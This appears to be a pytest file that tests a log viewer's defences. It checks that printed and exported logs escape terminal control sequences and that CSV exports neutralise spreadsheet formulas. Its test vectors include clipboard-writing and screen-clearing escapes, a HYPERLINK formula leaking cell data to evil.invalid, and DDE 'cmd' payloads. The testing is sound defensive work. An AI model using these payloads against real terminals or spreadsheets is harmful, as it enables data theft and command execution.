"""Log text printed or exported as text cannot act on a terminal or a spreadsheet, and an
export cannot land inside the log it was taken from.

One directory holds every injection vector (tests/shared/injection_vectors.py, plus the
terminal ones below) in every field: lines of ours, foreign lines, lines by the real writer in
another process, and raw lines that are no JSON at all. Then:

- ``msc-logs query`` / ``tail`` (real processes) print no control character but the newline
  that ends each entry, one line per entry; with ``--color always`` the only escapes are the
  printer's own colors; ``--json`` escapes the same characters as ``\\uXXXX``;
- a CSV export read back with the csv module has no cell a spreadsheet would take for a
  formula (OWASP: ``'`` before ``= + - @``, tab, CR, LF); a TXT export holds no control
  character but newlines and tabs, and each entry starts its own line;
- an export target the reader would read, or a lock file name, in the directory shown is
  refused and the directory stays as it was.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import select
import signal
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from injection_vectors import VECTORS, Vector, append_lines, foreign, ours, stamp, write_phase

from backend._app import AppContext, CommandError
from backend._dispatch import dispatch
from shared.reader.query import LogQuery, query_logs

REPO = Path(__file__).resolve().parents[2]
APP = "midi-software-center"
DEADLINE_S = 60.0

#: Sequences a terminal acts on: each would clear, move, retitle, recolor, write the clipboard
#: or answer back if it reached the terminal as it is.
TERMINAL: tuple[Vector, ...] = tuple(
    Vector(100 + n, name, text)
    for n, (name, text) in enumerate(
        [
            ("csi clear screen", "before\x1b[2J\x1b[Hafter"),
            ("osc 52 clipboard write (bel)", "copy\x1b]52;c;ZWNobyBwd25lZA==\x07me"),
            ("osc 52 clipboard write (st)", "copy\x1b]52;c;ZWNobyBwd25lZA==\x1b\\me"),
            ("osc 0 window title", "\x1b]0;you have been pwned\x07title"),
            ("osc 8 hyperlink", "\x1b]8;;http://evil.invalid/\x1b\\innocent\x1b]8;;\x1b\\"),
            ("dcs request", "\x1bP$q m\x1b\\dcs"),
            ("full reset", "reset\x1bcdone"),
            ("cursor position report", "ask\x1b[6nanswer"),
            ("alternate screen", "\x1b[?1049hhidden"),
            ("sgr recolor", "\x1b[8mconcealed\x1b[0m\x1b[41mred"),
            ("bel", "ring\x07ring\x07"),
            ("carriage return overwrite", "harmless text\rEVIL"),
            ("backspace overwrite", "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls -l   "),
            ("c1 csi", "c1\x9b2Jcsi"),
            ("c1 osc and st", "c1\x9d52;c;aGk=\x9cosc"),
            ("c1 nel", "next\x85line"),
            ("vertical tab and form feed", "v\x0bt\x0cf"),
            ("nul and del", "n\x00u\x7fl"),
            ("tab", "a\tb"),
            ("forged entry on a new line", "ok\n2026-01-01 00:00:00.000 ERROR  security  forged"),
            ("bidi override", "evil\u202egnp.exe\u202c and \u2066isolate\u2069"),
            ("line separator", "line\u2028separator\u2029paragraph"),
        ]
    )
)
#: Every vector: the page's 35 and the terminal's.
ALL = (*VECTORS, *TERMINAL)
#: Characters no printed or exported text may carry: C0 (newline aside), DEL, C1, and the
#: format characters that reorder or break a line.
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
#: The printer's own colors (``--color always``).
SGR = re.compile(r"\x1b\[[0-9;]*m")


def unsafe(text: str, *, allow: str = "") -> list[str]:
    """The unsafe characters in ``text`` (those in ``allow`` aside), by name."""
    found = {c for c in UNSAFE.findall(text) if c not in allow}
    return sorted(unicodedata.name(c, f"U+{ord(c):04X}") for c in found)


def raw_lines(log_dir: Path) -> None:
    """Lines that are no JSON, holding the terminal vectors as raw bytes (and a stray C1 byte)."""
    with (log_dir / f"{APP}.log").open("ab") as out:
        for v in TERMINAL:
            out.write(f"not json {v.n}: {v.text}".replace("\n", " ").encode() + b"\n")
        out.write(b"not json: a lone \x9b byte and \x1b[2J\n")


def fill(log_dir: Path) -> None:
    """Every vector in every field, four ways; `count` entries in all."""
    write_phase(log_dir, "p")  # the page's vectors: ours, foreign, the real writer
    start = datetime.now(UTC) - timedelta(seconds=10)
    lines: list[dict[str, Any]] = []
    for v in TERMINAL:
        at = start + timedelta(milliseconds=20 * (v.n - 100))
        foreign_line = foreign(v, "p", at + timedelta(milliseconds=5))
        foreign_line["severity"] = v.text  # a level name no table knows
        lines += [ours(v, "p", at), foreign_line]
    append_lines(log_dir, lines)
    raw_lines(log_dir)


def line(message: str, second: int = 0, **more: Any) -> dict[str, Any]:
    """A line of ours on 2026-01-01 (the keys in the writer's order)."""
    moment = datetime(2026, 1, 1, tzinfo=UTC) + timedelta(seconds=second)
    base = {"timestamp": stamp(moment), "level": "info", "category": "system"}
    return {**base, "message": message, **more}


def count(log_dir: Path) -> int:
    """How many entries the reader finds in ``log_dir``."""
    return len(query_logs(log_dir, LogQuery(), limit=10_000).entries)


@pytest.fixture(scope="module")
def vectors_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A log directory holding every vector (written once for the module; tests only read)."""
    log_dir = tmp_path_factory.mktemp("vectors") / "logs"
    log_dir.mkdir()
    fill(log_dir)
    return log_dir


def msc_logs(*argv: str) -> subprocess.CompletedProcess[bytes]:
    """``python -m backend <argv>`` as a user runs ``msc-logs``; bytes, as a terminal gets them."""
    return subprocess.run(
        [sys.executable, "-m", "backend", *argv],
        capture_output=True,
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        timeout=DEADLINE_S,
        check=False,
    )


def is_entry_line(line: str) -> bool:
    """A line the printer starts for an entry: the date and time first."""
    return re.match(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\.\d{6} ", line) is not None


class TestQueryAndTailPrintNoControls:
    def test_query_prints_no_control_character_and_one_line_per_entry(
        self, vectors_dir: Path
    ) -> None:
        """Keys, values, messages, targets, categories, raw lines: every vector is escaped."""
        done = msc_logs("query", "--dir", str(vectors_dir), "--limit", "10000")
        out = done.stdout.decode("utf-8")
        assert done.returncode == 0, done.stderr
        assert unsafe(out) == []
        lines = out.split("\n")
        assert lines.pop() == ""
        assert len(lines) == count(vectors_dir)
        assert all(is_entry_line(line) for line in lines)
        assert "\\x1b]52;c;ZWNobyBwd25lZA==\\x07" in out  # shown, as text
        assert "\\x9b2J" in out
        assert "\\u202e" in out

    def test_field_keys_are_escaped(self, vectors_dir: Path) -> None:
        """A key holding OSC 52 is printed as text (it used to reach the terminal raw)."""
        done = msc_logs("query", "--dir", str(vectors_dir), "--limit", "10000")
        osc52 = next(v for v in TERMINAL if v.name.startswith("osc 52 clipboard write (bel)"))
        key = "copy\\x1b]52;c;ZWNobyBwd25lZA==\\x07me="
        assert b"\x1b]52" not in done.stdout
        assert any(
            key in line and f"vector={osc52.n}" in line for line in done.stdout.decode().split("\n")
        )

    def test_with_colors_the_only_escapes_are_the_printers_own(self, vectors_dir: Path) -> None:
        """--color always adds SGR colors around the columns and nothing from the log."""
        done = msc_logs("query", "--dir", str(vectors_dir), "--limit", "10000", "--color", "always")
        out = done.stdout.decode("utf-8")
        assert SGR.search(out)
        assert unsafe(SGR.sub("", out)) == []

    def test_json_escapes_c1_and_line_breaking_characters_too(self, vectors_dir: Path) -> None:
        """--json stays valid JSON with the same values, and prints no control character."""
        done = msc_logs("query", "--dir", str(vectors_dir), "--limit", "10000", "--json")
        out = done.stdout.decode("utf-8")
        assert unsafe(out) == []
        entries = [orjson.loads(line) for line in out.split("\n")[:-1]]
        assert len(entries) == count(vectors_dir)
        messages = {e["message"] for e in entries}
        assert all(v.text in messages for v in ALL)

    def test_stderr_escapes_file_and_source_names(self, tmp_path: Path) -> None:
        """Source names (from file names) in errors and reports reach stderr escaped."""
        evil = "evil\x1b]0;pwned\x07\x9b2J"
        (tmp_path / f"{evil}.log").write_bytes(b"\xff not utf-8\n")
        for argv in (
            ("query", "--dir", str(tmp_path)),  # reports the malformed line and its file
            ("query", "--dir", str(tmp_path), "--app-name", "missing"),  # lists the sources
        ):
            done = msc_logs(*argv)
            err = done.stderr.decode("utf-8")
            assert "evil\\x1b]0;pwned\\x07\\x9b2J" in err
            assert unsafe(err) == []

    def test_a_huge_message_is_cut_with_a_marker_saying_how_much(self, tmp_path: Path) -> None:
        """A 10 MB message prints its first 64 KiB and how much more there is; --json all."""
        # 15 MB in all: a line over 16 MiB would be skipped by the reader.
        append_lines(tmp_path, [line("x" * 10_000_000, fields={"value": "y" * 5_000_000})])
        done = msc_logs("query", "--dir", str(tmp_path), "--limit", "1")
        out = done.stdout.decode("utf-8")
        assert len(out) < 3 * 64 * 1024
        assert "  " + "x" * 65536 + "… [9.5 MiB more]  " in out
        assert " value=" + "y" * 65536 + "… [4.7 MiB more]" in out
        whole = msc_logs("query", "--dir", str(tmp_path), "--limit", "1", "--json")
        assert orjson.loads(whole.stdout)["message"] == "x" * 10_000_000

    def test_tail_prints_history_and_followed_entries_escaped(self, tmp_path: Path) -> None:
        """tail: the vectors already there and those written while it follows, all escaped."""
        log_dir = tmp_path / "logs"
        log_dir.mkdir()
        raw_lines(log_dir)
        history = len(TERMINAL) + 1
        tail = subprocess.Popen(
            [sys.executable, "-m", "backend", "tail", "--dir", str(log_dir), "-n", "1000"],
            stdout=subprocess.PIPE,
            cwd=REPO,
            env={**os.environ, "PYTHONPATH": str(REPO)},
        )
        try:
            assert tail.stdout is not None
            seen = read_lines(tail.stdout.fileno(), history)
            at = datetime.now(UTC)
            append_lines(log_dir, [ours(v, "live", at) for v in TERMINAL])
            seen += read_lines(tail.stdout.fileno(), len(TERMINAL))
            tail.send_signal(signal.SIGINT)
            assert tail.wait(DEADLINE_S) == 0
        finally:
            if tail.poll() is None:
                tail.kill()
                tail.wait(DEADLINE_S)
        text = b"".join(seen).decode("utf-8")
        assert unsafe(text) == []
        assert all(is_entry_line(line) for line in text.splitlines())
        assert "\\x1b]52;c;" in b"".join(seen[history:]).decode()  # followed, and escaped


def read_lines(fd: int, wanted: int) -> list[bytes]:
    """``wanted`` lines from a child's pipe (unbuffered); fails the test instead of hanging."""
    data = b""
    while data.count(b"\n") < wanted:
        ready, _, _ = select.select([fd], [], [], DEADLINE_S)
        chunk = os.read(fd, 1 << 16) if ready else b""
        if not chunk:
            pytest.fail(f"fewer than {wanted} lines, then nothing: {data!r}")
        data += chunk
    assert data.endswith(b"\n"), data  # the child flushes whole batches of lines
    return data.splitlines(keepends=True)


@pytest.fixture
def vectors_app(vectors_dir: Path) -> Iterator[AppContext]:
    """The viewer showing the vectors' directory."""
    context = AppContext(log_dir=vectors_dir)
    yield context
    context.close()


#: Cells a spreadsheet would evaluate (OWASP "CSV Injection"), each as a message, a target and
#: a field value.
FORMULAS = (
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' =1+1 with "quotes", commas and a\nsecond line',
    "-5",
)


class TestCsvExport:
    def test_no_cell_starts_a_formula(self, vectors_app: AppContext, tmp_path: Path) -> None:
        """Every vector exported: no cell begins with = + - @ tab CR LF (a ' is put first)."""
        target = tmp_path / "vectors.csv"
        result = dispatch(vectors_app, "export_logs", {"output_path": str(target), "format": "csv"})
        rows = read_csv(target)
        assert len(rows) == result["count"] == count(vectors_app.log_dir)
        assert [cell for row in rows for cell in row if starts_formula(cell)] == []

    def test_formulas_get_a_quote_and_read_back_as_text(
        self, app: AppContext, active: Path, tmp_path: Path
    ) -> None:
        """Each formula vector comes back as ``'`` + itself, quotes and commas intact."""
        formulas = [line(f, n, target=f, fields={"value": f}) for n, f in enumerate(FORMULAS)]
        append_lines(active.parent, formulas)
        target = tmp_path / "formulas.csv"
        dispatch(app, "export_logs", {"output_path": str(target), "format": "csv"})
        rows = read_csv(target)
        assert [(row[3], row[4]) for row in rows] == [("'" + f, "'" + f) for f in FORMULAS]
        assert [orjson.loads(row[5]) for row in rows] == [{"value": f} for f in FORMULAS]

    def test_ordinary_cells_are_unchanged(
        self, app: AppContext, active: Path, tmp_path: Path
    ) -> None:
        """Text, JSON and numbers that start no formula get no quote."""
        plain = line("a = b + c", level="warn", category="midi", target="midi.io", pid=7)
        append_lines(active.parent, [{**plain, "fields": {"n": -5}}])
        target = tmp_path / "plain.csv"
        dispatch(app, "export_logs", {"output_path": str(target), "format": "csv"})
        (row,) = read_csv(target)
        assert row == ["2026-01-01T00:00:00.000000Z", "warn", "midi", "midi.io", "a = b + c",
                       '{"n":-5}', "", "7"]  # fmt: skip


def read_csv(path: Path) -> list[list[str]]:
    """The rows of a CSV export, header checked and left out."""
    with path.open(newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    assert header[:5] == ["timestamp", "level", "category", "target", "message"]
    return rows


TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def starts_formula(cell: str) -> bool:
    """Whether a spreadsheet may take ``cell`` for a formula."""
    first, after_spaces = cell[:1], cell.lstrip()[:1]
    return first in TRIGGERS or (first.isspace() and after_spaces in TRIGGERS)


class TestTxtExport:
    def test_holds_no_control_character_and_each_entry_starts_a_line(
        self, vectors_app: AppContext, tmp_path: Path
    ) -> None:
        """ESC, BEL, CR, C1 are escaped; message lines go on indented, as continuation lines."""
        target = tmp_path / "vectors.txt"
        result = dispatch(vectors_app, "export_logs", {"output_path": str(target), "format": "txt"})
        text = target.read_bytes().decode("utf-8")
        assert unsafe(text, allow="\t") == []
        lines = text.split("\n")
        assert lines.pop() == ""
        starts = [line for line in lines if not line.startswith(" ")]
        assert len(starts) == result["count"]
        assert all(re.match(r"\d{4}-\d{2}-\d{2}T", line) for line in starts)
        assert "harmless text\\rEVIL" in text
        assert "\\x1b]52;c;ZWNobyBwd25lZA==\\x07" in text


def tree(directory: Path) -> dict[str, str]:
    """Every file under ``directory`` and its sha256 (symlinks by their target)."""
    found = {}
    for path in sorted(directory.rglob("*")):
        if path.is_symlink():
            found[str(path.relative_to(directory))] = "-> " + os.readlink(path)
        elif path.is_file():
            found[str(path.relative_to(directory))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


#: Names in the directory shown that the reader would read, or that writers use.
TAKEN = (
    f"{APP}.log",  # the active file
    f"{APP}.log.1",  # a rotation that exists
    f"{APP}.log.3",  # the next rotations: they join the set
    f"{APP}.log.9.gz",
    f"{APP}.log.lock",  # the writers' rotation lock
    "other.lock",
    "export.jsonl",  # a new source
    "export.ndjson",
    "export.json",
    "export.log",
    "notes.txt",
    "export.log.2026-12-05",  # dated rotations of a new source
    f"{APP}.log-20261205",
    "export.2026-12-05_10-00-00_123456.log",
    "midi-software-center1.log",  # winston's numbered name
    "x.jsonl.gz",
)


class TestExportTargetsInsideTheLog:
    @pytest.fixture
    def shown(self, app: AppContext, active: Path) -> Path:
        """The directory shown: the active file, a rotation and the lock, as writers leave it."""
        append_lines(active.parent, [line("one")])
        (active.parent / f"{APP}.log.1").write_bytes(active.read_bytes())
        (active.parent / f"{APP}.log.lock").touch()
        return active.parent

    @pytest.mark.parametrize("overwrite", [False, True])
    @pytest.mark.parametrize("name", TAKEN)
    def test_a_name_the_log_would_take_is_refused(
        self, app: AppContext, shown: Path, name: str, overwrite: bool
    ) -> None:
        """invalid_args naming the target; nothing in the directory changes."""
        before = tree(shown)
        target = shown / name
        with pytest.raises(CommandError) as caught:
            dispatch(app, "export_logs", {"output_path": str(target), "overwrite": overwrite})
        assert caught.value.code == "invalid_args"
        assert caught.value.message.startswith(f"output_path: {target} ")
        assert "choose another name or directory" in caught.value.message
        assert tree(shown) == before

    def test_a_path_through_a_symlink_or_dot_dot_is_refused(
        self, app: AppContext, shown: Path, tmp_path: Path
    ) -> None:
        """The directory is compared by its real path."""
        link = tmp_path / "link-to-logs"
        link.symlink_to(shown)
        (shown / "sub").mkdir()
        before = tree(shown)
        for target in (link / f"{APP}.log.3", shown / "sub" / ".." / "export.jsonl"):
            with pytest.raises(CommandError) as caught:
                dispatch(app, "export_logs", {"output_path": str(target)})
            assert caught.value.code == "invalid_args"
        assert tree(shown) == before

    def test_beside_a_single_log_file_shown_is_refused(self, shown: Path) -> None:
        """Viewing one file, its directory is the one whose names are refused."""
        context = AppContext(log_dir=shown / f"{APP}.log")
        try:
            with pytest.raises(CommandError) as caught:
                dispatch(context, "export_logs", {"output_path": str(shown / "export.jsonl")})
        finally:
            context.close()
        assert caught.value.code == "invalid_args"

    @pytest.mark.parametrize("name", ["report.csv", "notes.txt.bak", ".hidden.jsonl"])
    def test_a_name_the_reader_ignores_is_exported_and_does_not_join_the_log(
        self, app: AppContext, shown: Path, name: str
    ) -> None:
        """A CSV (or a hidden file) in the directory shown is no log file: allowed."""
        entries = count(shown)
        result = dispatch(app, "export_logs", {"output_path": str(shown / name)})
        assert result["count"] == 2
        assert count(shown) == entries

    def test_a_target_elsewhere_still_works(
        self, app: AppContext, shown: Path, tmp_path: Path
    ) -> None:
        """The usual case: a jsonl export outside the directory shown."""
        target = tmp_path / "out" / "export.jsonl"
        target.parent.mkdir()
        assert dispatch(app, "export_logs", {"output_path": str(target)})["count"] == 2
